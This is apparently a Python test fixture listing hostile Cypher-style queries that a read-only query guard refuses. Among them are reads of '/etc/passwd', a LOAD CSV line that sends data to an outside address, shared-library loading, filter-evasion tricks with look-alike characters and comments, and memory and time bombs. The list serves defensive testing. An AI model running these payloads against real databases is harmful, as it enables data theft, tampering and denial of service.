"""Statements that a stranger might send: what docs/engines.md and the makers of such doors know to be dangerous."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """What it tries, and how."""

    kind: str
    statement: str


REFUSED = (
    Hostile("write", "CREATE (n:Paper {id: 'x'})"),
    Hostile("write behind a read", "MATCH (p:Paper) SET p.title = 'gone' RETURN p"),
    Hostile("write in lower case", "match (p:Paper) detach delete p"),
    Hostile("write in a subquery", "MATCH (p:Paper) CALL (p) { MERGE (q:Paper {id: 'x'}) } RETURN p"),
    Hostile("write by foreach", "MATCH (p:Paper) FOREACH (x IN [1] | CREATE (:Paper {id: 'x'}))"),
    Hostile("write by insert", "MATCH (p:Paper) INSERT (:Paper {id: 'x'})"),
    Hostile("write in its own transactions", "MATCH (p) CALL (p) { DELETE p } IN TRANSACTIONS"),
    Hostile("remove a property", "MATCH (p:Paper) REMOVE p.title"),
    Hostile("schema", "DROP TABLE Paper"),
    Hostile("profile a write", "PROFILE CREATE (n)"),
    Hostile("explain", "EXPLAIN MATCH (n) RETURN n"),
    Hostile("another planner", "CYPHER 25 MATCH (n) RETURN n"),
    Hostile("two statements", "MATCH (n) RETURN n; CREATE (m:Paper {id: 'x'})"),
    Hostile("read a file", "LOAD FROM '/etc/passwd' (file_format='csv', delim=':') RETURN *"),
    Hostile("read a file behind a read", "MATCH (p:Paper) LOAD FROM '/etc/passwd' RETURN *"),
    Hostile("read a file by csv", "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row"),
    Hostile("send data away", "MATCH (p:Paper) LOAD CSV FROM 'http://127.0.0.1:1/?' + p.id AS row RETURN row"),
    Hostile("write a file", "COPY (MATCH (p:Paper) RETURN p.id) TO 'out.csv'"),
    Hostile("write a folder", "EXPORT DATABASE 'out'"),
    Hostile("attach", "ATTACH 'other.lbug' AS other"),
    Hostile("download", "INSTALL json"),
    Hostile("load a library", "LOAD EXTENSION 'x.so'"),
    Hostile("damage the file", "CHECKPOINT"),
    Hostile("transaction", "BEGIN TRANSACTION"),
    Hostile("change its limit", "CALL timeout=0"),
    Hostile("call behind a read", "MATCH (n) CALL db.labels() YIELD label RETURN label"),
    Hostile("call a plug-in", "CALL apoc.load.json('file:///etc/passwd')"),
    Hostile("function of a plug-in", "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN n', {})"),
    Hostile("function in backticks", "RETURN `apoc`.`text`.`repeat`('x', 1000000000)"),
    Hostile("settings", "SHOW SETTINGS"),
    Hostile("others' statements", "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery"),
    Hostile("others' users", "MATCH (n) RETURN n UNION SHOW USERS"),
    Hostile("end others' statements", "TERMINATE TRANSACTION 'neo4j-transaction-1'"),
    Hostile("another database", "USE system MATCH (n) RETURN n"),
    Hostile("escaped letters", "\\u0043REATE (n)"),
    Hostile("escaped quote", "RETURN '\\u0027 CREATE (n) //'"),
    Hostile("letters that look alike", "MATCH (n) \u017fET n.id = 'x'"),
    Hostile("full-width letters", "MATCH (n) \uff33\uff25\uff34 n.id = 'x'"),
    Hostile("blank that is none", "MATCH (n)\u00a0RETURN n"),
    Hostile("zero character", "RETURN 1\x00"),
    Hostile("comment that ends early", "RETURN 1 // \r CREATE (n)"),
    Hostile("comment in a comment", "RETURN 1 /* /* */ CREATE (n) */"),
    Hostile("comment before", "/* MATCH */ CREATE (n)"),
    Hostile("comment that does not end", "RETURN 1 /* CREATE (n)"),
    Hostile("quote that does not end", "RETURN 'CREATE (n)"),
    Hostile("word behind a number", "RETURN 1CREATE (n)"),
    Hostile("long list", "RETURN size(range(1,400000000))"),
    Hostile("long rows", "UNWIND range(1, 1000000000) AS x RETURN count(x)"),
    Hostile("long list in backticks", "RETURN size(`range`(1,400000000))"),
    Hostile("long list by arithmetic", "RETURN size(range(1, 1000*1000*1000))"),
    Hostile("long list by step", "RETURN range(1, -9000000000000000000, -1)"),
    Hostile("giant string", "RETURN reduce(s = '', x IN range(1, 1000) | s + s + 'x')"),
    Hostile("comprehension", "RETURN [x IN [1, 2] | x]"),
    Hostile("deep brackets", f"RETURN {'(' * 3000}1{')' * 3000}"),
    Hostile("megabyte", f"RETURN '{'x' * 1_000_000}'"),
    Hostile("nothing", " \n// nothing\n"),
)
"""Refused before any engine sees them, whatever the engine."""
STOPPED = (
    Hostile("cartesian product", "MATCH (a), (b), (c), (d), (e), (f), (g), (h), (i) WHERE a.id > i.id RETURN count(*)"),
    Hostile("many rows", "UNWIND range(1, 100000) AS x UNWIND range(1, 100000) AS y RETURN count(*) AS n"),
)
"""Plain reading that would take for ever."""
BOMBS = (
    Hostile("collect", "UNWIND range(1, 100000) AS x UNWIND range(1, 10000) AS y RETURN collect(x + y)"),
    Hostile("string", "WITH 'xxxxxxxxxx' AS a " + "WITH a + a AS a " * 32 + "RETURN size(a) AS n"),
)
"""Plain reading that would take all memory."""
